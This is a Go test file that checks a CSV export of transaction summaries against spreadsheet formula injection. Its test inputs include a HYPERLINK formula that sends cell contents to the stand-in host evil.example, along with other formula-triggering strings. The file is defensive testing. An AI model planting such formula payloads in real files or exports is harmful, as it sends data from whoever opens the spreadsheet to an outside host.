package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/mintwarden/mintwarden/daemon/store"
)

// Used stores that a key was used for a path with a body that nobody sends.
func Used(ctx context.Context, s *store.Store, tenant, method, path, key string) error {
	idem := &store.Idempotent{
		Hash: scope(tenant, method, path, key), BodyHash: "of no body",
		Render: func(any) (int, []byte, error) { return 200, []byte("{}"), nil },
	}
	t := s.Tx()
	t.Idempotent(idem, nil)
	_, err := t.Commit(ctx)
	return err
}

// A node that lies says why a transaction failed in words that a spreadsheet takes for a formula: whoever opens the
// export would run it.
func TestAttack_AFormulaInAnExport(t *testing.T) {
	for _, reason := range []string{`=HYPERLINK("https://evil.example/?"&A2&B2,"execution reverted")`, "+1 execution reverted", "-1 revert", "@SUM(A1) revert", "\t=1", "\r=1",
		"＝1+1 as some spreadsheets read it"} {
		var out bytes.Buffer
		s := newCSVSheet(&out)
		require.NoError(t, s.add(TransactionSummary{FailureReason: &reason, Attention: &reason, RequestedBy: reason}))
		require.NoError(t, s.end())
		rows, err := csv.NewReader(&out).ReadAll()
		require.NoError(t, err)
		for i, cell := range rows[1] {
			require.NotRegexp(t, `^[=+\-@\t\r＝＋－＠]`, cell, csvColumns[i])
		}
	}
}
